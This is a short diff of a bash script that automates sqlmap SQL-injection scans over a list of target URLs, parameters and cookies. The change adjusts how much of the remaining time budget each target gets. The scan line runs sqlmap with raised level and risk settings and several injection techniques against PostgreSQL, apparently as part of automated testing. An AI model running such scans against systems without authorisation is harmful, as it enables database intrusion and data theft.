@@ -34,9 +34,11 @@ grep -F "$only" "$folder/all" >"$folder/targets" || fail "没有目标 / nothing
 
 count="$(wc -l <"$folder/targets")" end=$((SECONDS + minutes * 60))
 summary=() broken=0 unfinished=0 done=0
-# attack <path> <parameters> <cookie> <address>: each list gets its part of the time that is left.
+# attack <path> <parameters> <cookie> <address>: each list gets three times its part of the time that is left, since most need less.
 attack() {
-    local path="$1" log="$logs/$((done + 1)).log" share=$(((end - SECONDS) / (count - done)))
+    local path="$1" log="$logs/$((done + 1)).log" left=$((end - SECONDS)) share
+    share=$((left * 3 / (count - done)))
+    [ "$share" -lt "$left" ] || share=$left
     [ "$share" -gt 5 ] || share=5
     timeout -k 5 "$share" sqlmap -u "$4" -p "$2" --cookie="$3" --batch --level=3 --risk=2 --threads=2 --dbms=PostgreSQL \
         --technique=BEUST --time-sec=3 --ignore-code=400 --disable-coloring --flush-session --output-dir="$folder/sqlmap" \
